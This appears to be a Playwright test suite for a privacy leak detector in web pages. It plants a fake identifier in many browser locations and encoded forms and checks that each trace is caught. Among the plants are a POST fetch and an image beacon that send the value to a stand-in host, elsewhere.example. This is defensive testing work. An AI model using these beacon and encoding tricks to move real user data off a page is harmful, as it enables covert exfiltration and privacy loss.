import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { findSecrets } from '../support/find-secrets.ts';
import { watchTraces } from '../support/watch-traces.ts';

const secret = 'Zoë Ångström+7f3a@people.example';
const secrets = { identifier: secret };
const origin = 'http://localhost:9';

/** Pages and answers without a service: what is tried is the probe. */
const open = async (context: BrowserContext, page: Page) => {
  const watch = await watchTraces(context, origin);
  await context.route('**/*', (route) =>
    route.fulfill({
      contentType: 'text/html',
      headers: { 'Content-Security-Policy': "img-src 'self'" },
      body: '<!doctype html><title>Probe</title><p>Nothing</p>',
    }),
  );
  await page.goto(`${origin}/clean`);
  expect(findSecrets(await watch.notes(), secrets)).toEqual([]);
  const placesFound = async () =>
    findSecrets(await watch.notes(), secrets).map(({ place }) => place);
  return { placesFound };
};

/** Leaves the secret in one place, most of them only for a moment. */
const plants: { place: string; how: string; plant: (text: string) => unknown }[] = [
  {
    place: 'address',
    how: 'in a fragment that is taken back',
    plant: (text) => {
      location.hash = text;
      history.replaceState(null, '', '/clean');
    },
  },
  {
    place: 'request',
    how: 'in the address of a read',
    plant: (text) => fetch(`/people?identifier=${encodeURIComponent(text)}`),
  },
  {
    place: 'request elsewhere',
    how: 'in a body that goes to another origin',
    plant: (text) =>
      fetch('http://elsewhere.example/', { method: 'POST', body: text, mode: 'no-cors' }),
  },
  {
    place: 'history',
    how: 'in a state that is replaced at once',
    plant: (text) => {
      history.pushState({ lookup: text }, '', '/next');
      history.replaceState(null, '', '/next');
    },
  },
  {
    place: 'title',
    how: 'for a moment',
    plant: (text) => {
      document.title = text;
      document.title = 'Probe';
    },
  },
  {
    place: 'title',
    how: 'in the text of its element',
    plant: (text) => {
      const title = document.querySelector('title');
      if (title !== null) title.textContent = text;
    },
  },
  {
    place: 'storage',
    how: 'locally, removed at once',
    plant: (text) => {
      localStorage.setItem('last', btoa(encodeURIComponent(text)));
      localStorage.removeItem('last');
    },
  },
  {
    place: 'storage',
    how: 'of the session, set as a property',
    plant: (text) => {
      sessionStorage.last = text;
    },
  },
  {
    place: 'database',
    how: 'as a record',
    plant: (text) =>
      new Promise<void>((resolve, reject) => {
        const opening = indexedDB.open('cache');
        opening.onupgradeneeded = () => opening.result.createObjectStore('people');
        opening.onerror = reject;
        opening.onsuccess = () => {
          const transaction = opening.result.transaction('people', 'readwrite');
          transaction.objectStore('people').put({ text }, 1);
          transaction.oncomplete = () => {
            opening.result.close();
            resolve();
          };
        };
      }),
  },
  {
    place: 'cache',
    how: 'as an answer that is kept',
    plant: async (text) => (await caches.open('answers')).put('/people', new Response(text)),
  },
  {
    place: 'cookie',
    how: 'set by a script',
    plant: (text) => {
      // biome-ignore lint/suspicious/noDocumentCookie: this way too must be seen
      document.cookie = `last=${encodeURIComponent(text)}`;
    },
  },
  {
    place: 'cookie',
    how: 'set by the newer interface and deleted',
    plant: async (text) => {
      await cookieStore.set('last', encodeURIComponent(text));
      await cookieStore.delete('last');
    },
  },
  {
    place: 'broadcast',
    how: 'to other tabs',
    plant: (text) => new BroadcastChannel('all').postMessage({ text }),
  },
  { place: 'message', how: 'to a window', plant: (text) => window.postMessage({ text }, '*') },
  { place: 'console', how: 'as an object', plant: (text) => console.log('answer', { text }) },
  {
    place: 'page error',
    how: 'in a promise that nobody awaits',
    plant: (text) => {
      void Promise.reject(new Error(`No such person: ${text}`));
    },
  },
  {
    place: 'report',
    how: 'of a blocked image',
    plant: (text) => {
      new Image().src = `http://elsewhere.example/${encodeURIComponent(text)}.png`;
    },
  },
  {
    place: 'window name',
    how: 'which outlasts the page',
    plant: (text) => {
      window.name = text;
    },
  },
];

for (const { place, how, plant } of plants) {
  test(`a trace is found: ${place}, ${how}`, async ({ context, page }) => {
    const { placesFound } = await open(context, page);
    await page.evaluate(plant, secret);
    await expect.poll(placesFound).toContain(place);
  });
}

test('a trace is found: referrer, of the page before', async ({ context, page }) => {
  const { placesFound } = await open(context, page);
  await page.goto(`${origin}/people/${encodeURIComponent(secret)}`);
  await page.evaluate(() => {
    location.assign('/next');
  });
  await page.waitForURL(`${origin}/next`);
  expect(await placesFound()).toContain('referrer');
});

test('a trace is found in another tab, and in a cookie that scripts do not see', async ({
  context,
  page,
}) => {
  const { placesFound } = await open(context, page);
  const other = await context.newPage();
  await other.goto(`${origin}/other`);
  await context.addCookies([
    { name: 'last', value: encodeURIComponent(secret), url: origin, httpOnly: true },
  ]);
  await other.evaluate((text) => console.warn(text), secret);
  await expect.poll(placesFound).toEqual(expect.arrayContaining(['cookie', 'console']));
});

const forms: [form: string, text: string][] = [
  ['as it is', secret],
  ['in the other case', secret.toUpperCase()],
  ['percent-encoded', encodeURIComponent(secret)],
  ['in a form', new URLSearchParams({ q: secret }).toString()],
  ['percent-encoded twice', encodeURIComponent(encodeURIComponent(secret))],
  ['in Base64', Buffer.from(secret).toString('base64')],
  ['in Base64 after one byte', Buffer.from(`{${secret}}`).toString('base64')],
  ['in Base64 for addresses after two', Buffer.from(`??${secret}`).toString('base64url')],
  ['hexadecimal', Buffer.from(secret).toString('hex')],
  ['backwards', Array.from(secret).reverse().join('')],
  [
    'escaped',
    JSON.stringify({ secret }).replace(
      /[^ -~]/g,
      (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`,
    ),
  ],
];

test('a secret is found in every form', () => {
  const unseen = forms.filter(
    ([, text]) => findSecrets([{ place: 'here', text: `x${text}y` }], secrets).length === 0,
  );
  expect(unseen).toEqual([]);
});

test('nothing is found where there is nothing, and no trace repeats the secret', () => {
  const clean = [{ place: 'here', text: 'a••••••••@p•••••.example Zoe Angstrom 7f3a' }];
  expect(findSecrets(clean, secrets)).toEqual([]);
  const found = findSecrets([{ place: 'here', text: secret }], secrets);
  expect(JSON.stringify(found)).not.toContain('7f3a');
  expect(() => findSecrets(clean, { short: 'abc' })).toThrow(/too short/);
});
